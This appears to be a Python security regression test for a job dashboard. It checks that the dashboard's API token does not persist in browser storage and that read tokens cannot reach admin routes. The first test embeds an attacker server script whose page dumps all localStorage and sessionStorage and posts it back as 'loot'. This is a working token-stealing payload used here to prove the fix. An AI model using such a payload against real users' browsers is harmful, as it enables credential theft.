"""The dashboard leaves no token behind for a later page of the same origin.

The audit's attack: the dashboard kept the API token in ``localStorage`` for good; once weir
stopped, another account (``nobody``) served its own page on the same host and port, and the
user's browser, opening it, handed that page the token. Now the page trades the token for a read
token at once, keeps that in memory only, and stores nothing; the read token opens reads and
streams, never an admin route.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import httpx

from tests.integration.test_dashboard import JOB, _browse
from tests.security.conftest import Stranger
from tests.support import WeirServer, wait_until

TOKEN = "dash-api-token-7f3e91"
# the attacker's server: any page on this origin may read the origin's storage, and posts it home
THIEF = r"""
import http.server, sys, time
PAGE = (b"<script>fetch('/loot', {method: 'POST', body: JSON.stringify({"
        b"local: Object.assign({}, localStorage), session: Object.assign({}, sessionStorage)})})"
        b"</script>")
class Thief(http.server.BaseHTTPRequestHandler):
    loot = None
    def do_GET(self):
        body = PAGE if self.path.startswith("/later") else b""
        self.send_response(200 if body else 404)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def do_POST(self):
        Thief.loot = self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(204)
        self.end_headers()
    def log_message(self, *args):
        pass
server = http.server.HTTPServer(("127.0.0.1", PORT), Thief)
server.timeout = 0.5
print("listening", flush=True)
deadline = time.monotonic() + 60
while Thief.loot is None and time.monotonic() < deadline:
    server.handle_request()
print((Thief.loot or b"no loot").decode(), flush=True)
"""
SIGN_IN = (
    f"(() => {{ const t = document.getElementById('token'); t.value = {json.dumps(TOKEN)};"
    " t.dispatchEvent(new Event('change')); return true; })()"
)
SIGNED_IN = "document.getElementById('jobs').textContent.includes('dash')"


def test_a_later_page_on_the_same_port_finds_no_token(
    tmp_path: Path, weir_server: Callable[..., WeirServer], stranger: Stranger
) -> None:
    job = tmp_path / "dash.py"
    job.write_text(JOB)
    server = weir_server(job, env={"WEIR_API_TOKEN": TOKEN})
    port = int(server.base_url.rsplit(":", 1)[1])
    with _browse(f"{server.base_url}/", tmp_path / "profile") as page:
        origin = json.dumps(server.base_url)
        loaded = f"location.origin === {origin} && !!document.getElementById('token')"
        wait_until(lambda: page.settled(loaded), 30.0, what="the dashboard to load")
        assert page.evaluate(SIGN_IN) is True
        wait_until(lambda: page.settled(SIGNED_IN), 30.0, what="the page to read /jobs signed in")
        left_in_the_field = page.evaluate("document.getElementById('token').value")
        server.stop()
        thief = stranger.popen(THIEF.replace("PORT", str(port)))
        try:
            assert thief.stdout is not None
            assert thief.stdout.readline().strip() == "listening", thief.stderr
            page.evaluate(f"location.href = {json.dumps(server.base_url + '/later')}; true")
            out, err = thief.communicate(timeout=70)
        finally:
            if thief.poll() is None:
                thief.kill()
                thief.communicate()
    loot = json.loads(out.strip().splitlines()[-1]) if out.strip() != "no loot" else None
    assert loot is not None, f"the later page never ran: {err}"
    assert TOKEN not in out
    assert loot == {"local": {}, "session": {}}, loot
    assert left_in_the_field == ""  # the page forgot the API token once it had a read token


def test_a_read_token_opens_reads_and_streams_never_admin_routes(
    tmp_path: Path, weir_server: Callable[..., WeirServer]
) -> None:
    job = tmp_path / "dash.py"
    job.write_text(JOB)
    server = weir_server(job, env={"WEIR_API_TOKEN": TOKEN})
    with httpx.Client(base_url=server.base_url, trust_env=False, timeout=10.0) as http:
        api = {"Authorization": f"Bearer {TOKEN}"}
        issued = http.post("/auth/stream-token", params={"reads": "true"}, headers=api)
        assert issued.status_code == 200, issued.text
        read = {"Authorization": f"Bearer {issued.json()['token']}"}
        assert http.get("/jobs", headers=read).status_code == 200
        assert http.get("/jobs/dash", headers=read).status_code == 200
        for path in ("/jobs/dash/savepoints", "/auth/stream-token"):
            refused = http.post(path, headers=read)
            assert refused.status_code == 401, (path, refused.text)
        streams_only = http.post("/auth/stream-token", headers=api).json()["token"]
        refused = http.get("/jobs", headers={"Authorization": f"Bearer {streams_only}"})
        assert refused.status_code == 401
        wait_until(
            lambda: http.get("/dash/counts/state/ad-0", headers=read).status_code == 200,
            30.0,
            what="ad-0's state, read with the read token",
        )
        token = issued.json()["token"]
        params = {"access_token": token, "limit": "1"}
        with http.stream("GET", "/dash/counts/state/ad-0/stream", params=params) as stream:
            assert stream.status_code == 200
            assert next(stream.iter_lines()).startswith(("data", "id"))
